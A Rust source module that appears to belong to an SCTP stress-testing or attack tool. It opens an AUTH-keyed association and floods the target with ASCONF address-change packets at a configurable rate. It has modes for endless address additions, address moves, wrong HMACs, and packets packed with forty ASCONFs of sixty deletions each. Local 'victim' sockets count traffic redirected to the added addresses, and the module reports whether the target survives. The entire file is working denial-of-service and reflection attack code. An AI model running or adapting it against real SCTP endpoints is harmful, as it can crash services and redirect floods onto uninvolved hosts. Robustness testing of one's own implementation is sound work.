//! Changes of addresses (RFC 5061) that no honest peer makes, behind AUTH (RFC 4895).
//!
//! There are no shared keys, so whoever sets an association up has its key.

use crate::Target;
use crate::flood::counted;
use crate::peer::{End, Peer, Wish};
use anyhow::{Context, Result};
use byway_wire::{Auth, Checksum, PacketBuilder};
use chacha20::ChaCha8Rng;
use chacha20::rand_core::SeedableRng;
use hmac::{Hmac, KeyInit, Mac};
use serde_json::{Value, json};
use sha2::Sha256;
use std::net::{IpAddr, UdpSocket};
use std::time::{Duration, Instant};

/// What is asked for.
#[derive(Copy, Clone, Debug, PartialEq, Eq, clap::ValueEnum)]
pub(crate) enum Change {
    /// Each ASCONF adds an address, and they are never deleted
    Addresses,
    /// Each ASCONF adds an address and deletes the one before
    Moves,
    /// The same with a wrong HMAC
    WrongHmac,
    /// Forty ASCONFs in a packet, each with sixty deletions
    Packed,
}

/// How fast, and for how long.
#[derive(Clone, Debug, clap::Args)]
pub(crate) struct Pace {
    /// Address of the attacker; those that it adds are counted up from it
    #[arg(long, default_value = "127.133.0.1")]
    from: IpAddr,
    /// Packets a second
    #[arg(long, default_value_t = 2000.0)]
    rate: f64,
    /// Seconds
    #[arg(long, default_value_t = 5.0)]
    seconds: f64,
}

/// Added addresses whose packets are counted: the first ones.
const VICTIMS: u32 = 64;
/// Addresses that are added before they begin again.
const ADDRESSES: u32 = 60_000;

/// Sets an association up and changes its addresses without end.
pub(crate) fn run(change: Change, target: &Target, pace: &Pace) -> Result<Value> {
    let mut rng = ChaCha8Rng::from_seed([19; 32]);
    let socket = UdpSocket::bind((pace.from, 0))?;
    let port = socket.local_addr()?.port();
    let victims: Vec<UdpSocket> = (1..=VICTIMS)
        .map(|n| victim(counted(pace.from, n), port))
        .collect::<Result<_>>()?;
    let wish = Wish {
        keyed: true,
        ..Wish::default()
    };
    let mut peer = Peer::connect(socket, target, &wish, &mut rng)?;
    let time = Duration::try_from_secs_f64(pace.seconds)?;
    let (begun, mut serial) = (Instant::now(), peer.next.0);
    let (mut sent, mut bytes, mut alive) = (0_u32, 0, true);
    while begun.elapsed() < time && alive {
        let due = f64::from(sent) / pace.rate;
        let ahead = Duration::try_from_secs_f64(due)?.saturating_sub(begun.elapsed());
        std::thread::sleep(ahead);
        let packet = ask(change, &peer, serial, pace.from, sent)?;
        serial = serial.wrapping_add(if change == Change::Packed { 40 } else { 1 });
        bytes += packet.len();
        peer.send_bytes(&packet)?;
        sent += 1;
        if sent.is_multiple_of(16) {
            alive = peer.live(None)?;
        }
    }
    let lasted = begun.elapsed();
    std::thread::sleep(Duration::from_millis(300));
    alive = alive && peer.live(None)?;
    let (mut heard, mut most, mut victims_bytes) = (0, 0, 0);
    for victim in &victims {
        let (mut packets, mut buffer) = (0_u64, [0; 65_536]);
        while let Ok(read) = victim.recv(&mut buffer) {
            packets += 1;
            victims_bytes += read;
        }
        most = most.max(packets);
        heard += packets;
    }
    Ok(json!({
        "packets": sent,
        "bytes": bytes,
        "packets_per_second": f64::from(sent) / lasted.as_secs_f64(),
        "answers": peer.asconf_acks,
        "alive": alive,
        "reason": peer.ended.as_ref().map(End::text),
        "victims": victims.len(),
        "victims_packets": heard,
        "victims_bytes": victims_bytes,
        "victims_packets_most": most,
    }))
}

fn victim(ip: Option<IpAddr>, port: u16) -> Result<UdpSocket> {
    let ip = ip.context("no such victim")?;
    let socket = UdpSocket::bind((ip, port)).with_context(|| format!("cannot bind {ip}"))?;
    socket.set_nonblocking(true)?;
    Ok(socket)
}

/// The packet number `n`.
fn ask(change: Change, peer: &Peer, serial: u32, own: IpAddr, n: u32) -> Result<Vec<u8>> {
    let address = |n: u32| counted(own, 1 + n % ADDRESSES).context("no such address");
    let (new, last) = (address(n)?, address(n.saturating_sub(1))?);
    let key = match change {
        Change::WrongHmac => b"another".as_slice(),
        _ => &peer.key,
    };
    let mut bytes = peer.packet(|p| match change {
        Change::Packed => pack(p, serial, own),
        _ => p.asconf(serial, own, |w| {
            w.add_ip(1, new);
            if change != Change::Addresses && n > 0 {
                w.delete_ip(2, last);
            }
        }),
    });
    let blank = Auth {
        shared_key_id: 0,
        hmac_id: 3,
        hmac: &[0; 32],
    };
    blank.seal(&mut bytes, 0, Checksum::Crc32c, |covered| {
        let mut mac = Hmac::<Sha256>::new_from_slice(key).expect("keys of any length");
        mac.update(covered);
        mac.finalize().into_bytes()
    });
    Ok(bytes)
}

fn pack(p: &mut PacketBuilder<'_>, serial: u32, own: IpAddr) {
    for n in 0..40 {
        p.asconf(serial.wrapping_add(n), own, |w| {
            for id in 0..60 {
                w.delete_ip(id, own);
            }
        });
    }
}
